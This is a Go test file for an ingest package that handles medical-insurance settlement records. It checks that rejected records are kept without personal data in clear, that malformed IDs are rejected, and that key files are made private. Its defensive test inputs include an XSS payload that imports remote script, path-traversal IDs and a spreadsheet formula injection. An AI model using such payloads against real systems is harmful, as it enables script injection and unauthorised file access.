package ingest

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"strings"
	"testing"
)

// Issue 10 finding 7: for every malformed shape the rejects file holds no personal data in
// clear; an unparseable record is kept only as its byte range and SHA-256.
func TestRejectsHoldNoPersonalData(t *testing.T) {
	const personal = `"psn_no":"P0000123","certno":"320102195803020011","psn_name":"张三"`
	for name, c := range map[string]struct {
		body     string
		unparsed bool
	}{
		"flat document":       {`{"setl_id":"S9",` + personal + `,"fixmedins_code":"H1"}`, true},
		"setlinfo as array":   {`{"setlinfo":[{"setl_id":"S9",` + personal + `}]}`, true},
		"escaped keys":        {`{"setlinfo":{"setl_id":"S9","psn\u005fno":"P0000123","cert\u006eo":"320102195803020011","psn_\u006eame":"张三"}}`, false},
		"duplicate keys":      {`{"setlinfo":{"setl_id":"S9",` + personal + `,"psn_no":"P0000123","certno":"320102195803020011"}}`, false},
		"truncated in psn_no": {`{"setlinfo":{"setl_id":"S9","psn_no":"P00001`, true},
		"nested elsewhere":    {`{"setlinfo":{"setl_id":"S9"},"extra":{"who":[` + `{` + personal + `}]}}`, false},
		"upper-case key":      {`{"setlinfo":{"setl_id":"S9","PSN_NO":"P0000123","CERTNO":"320102195803020011"}}`, false},
	} {
		t.Run(name, func(t *testing.T) {
			good := strings.Replace(goodDoc, `"S1"`, `"S2"`, 1)
			sum, _, rejects := ingestFiles(t, map[string]string{"a.json": good + "\n" + c.body + "\n"})
			if sum.Loaded != 1 || len(rejects) != 1 {
				t.Fatalf("%+v %+v", sum, rejects)
			}
			orig := string(rejects[0].Original)
			for _, clear := range []string{"P0000123", "320102195803020011", "张三", `\u5f20`, "P00001"} {
				if strings.Contains(orig, clear) {
					t.Fatalf("rejects file holds %q: %s", clear, orig)
				}
			}
			if c.unparsed {
				var u Unparsed
				if err := json.Unmarshal(rejects[0].Original, &u); err != nil || !u.Unparsed {
					t.Fatalf("want byte range and hash, got %s", orig)
				}
				file := good + "\n" + c.body + "\n"
				span := file[u.Bytes[0]:u.Bytes[1]]
				sum := sha256.Sum256([]byte(span))
				if strings.TrimSpace(span) != c.body || hex.EncodeToString(sum[:]) != u.SHA256 {
					t.Fatalf("range %v holds %q, hash %s", u.Bytes, span, u.SHA256)
				}
			} else if !strings.Contains(orig, `"S9"`) {
				t.Fatalf("a parseable record should be kept masked: %s", orig)
			}
		})
	}
}

// Issue 10 findings 1 and 5: ids outside the documented character set are rejected at
// ingest, naming the field and the reason.
func TestIDCharsetEnforced(t *testing.T) {
	const xss = `F\"><img src=x onerror=import('//e/a.js')>`
	for field, c := range map[string][2]string{
		"setlinfo.setl_id":         {`"setl_id":"S1"`, `"setl_id":"` + xss + `"`},
		"setlinfo.fixmedins_code":  {`"fixmedins_code":"H1"`, `"fixmedins_code":"../../tmp/x"`},
		"setlinfo.mdtrt_id":        {`"mdtrt_id":"M1"`, `"mdtrt_id":"M 1\n"`},
		"feedetl[0].feedetl_sn":    {`"feedetl_sn":"1"`, `"feedetl_sn":"=HYPERLINK(1)"`},
		"feedetl[0].med_list_codg": {`"med_list_codg":"001102000010000"`, `"med_list_codg":"<b>"`},
	} {
		doc := strings.Replace(goodDoc, c[0], c[1], 1)
		sum, _, rejects := ingestFiles(t, map[string]string{"a.json": doc})
		if sum.Rejected != 1 || len(rejects) != 1 {
			t.Fatalf("%s: %+v", field, sum)
		}
		found := false
		for _, r := range rejects[0].Reasons {
			found = found || r.Field == field && r.Code == "bad_id"
		}
		if !found {
			t.Errorf("%s: reasons %+v", field, rejects[0].Reasons)
		}
	}
	hospitals := "code,name,level\nH1,甲医院,3\n../../x,坏代码,3\n"
	sum, _, rejects := ingestFiles(t, map[string]string{"hospitals.csv": hospitals})
	if sum.Hospitals != 1 || sum.HospitalsRejected != 1 || rejects[0].Reasons[0].Code != "bad_id" {
		t.Fatalf("registry: %+v %+v", sum, rejects)
	}
}

// Review of issue 10: shapes the first fix missed. The parser's error quoted the text after
// the fault; keys spelled with control characters or look-alike letters (ſ for s) escaped
// the masking; a sender repeating the certificate number or name in another field kept it.
func TestRejectsHoldNoPersonalDataReview(t *testing.T) {
	for name, body := range map[string]string{
		"not JSON":             `psn_no=P0000123 certno=320102195803020011 张三`,
		"syntax error before":  `{"setlinfo":{"setl_id":"S9" "psn_no":"P0000123","certno":"320102195803020011","psn_name":"张三"}}`,
		"trailing garbage":     `{"setlinfo":{"setl_id":"S9"}} psn_no P0000123 320102195803020011 张三`,
		"control char in key":  `{"setlinfo":{"setl_id":"S9","psn_no\u0000":"P0000123","certno\t":"320102195803020011","psn-name":"张三"}}`,
		"long s in key":        `{"setlinfo":{"setl_id":"S9","pſn_no":"P0000123","PSN_ＮO":"P0000123","psnName":"张三"}}`,
		"value in free text":   `{"setlinfo":{"setl_id":"S9","psn_no":"P0000123","certno":"320102195803020011","psn_name":"张三"},"feedetl":[{"memo":"患者张三 身份证320102195803020011 P0000123"}]}`,
		"value as a key":       `{"setlinfo":{"setl_id":"S9","psn_no":"P0000123","certno":"320102195803020011"},"x":{"320102195803020011":1}}`,
		"number under the key": `{"setlinfo":{"setl_id":"S9","psn_no":1234567890123,"certno":{"v":"320102195803020011"}},"memo":"1234567890123"}`,
	} {
		t.Run(name, func(t *testing.T) {
			good := strings.Replace(goodDoc, `"S1"`, `"S2"`, 1)
			_, _, rejects := ingestFiles(t, map[string]string{"a.json": good + "\n" + body + "\n"})
			if len(rejects) == 0 { // a stream that is not JSON may split into several records
				t.Fatal("nothing rejected")
			}
			b, _ := json.Marshal(rejects)
			for _, clear := range []string{"P0000123", "320102195803020011", "张三", `\u5f20`, "1234567890123"} {
				if strings.Contains(string(b), clear) {
					t.Fatalf("rejects file holds %q: %s", clear, b)
				}
			}
		})
	}
}

// Review of issue 10: a pseudonymisation key file made before the fix (0644) stayed
// readable by everyone; loading it makes it private.
func TestOldKeyFileMadePrivate(t *testing.T) {
	dir := t.TempDir()
	if _, err := LoadOrCreateKey(dir); err != nil {
		t.Fatal(err)
	}
	path := KeyPath(dir)
	if err := os.Chmod(path, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadOrCreateKey(dir); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Fatalf("key file mode %v", fi.Mode().Perm())
	}
}
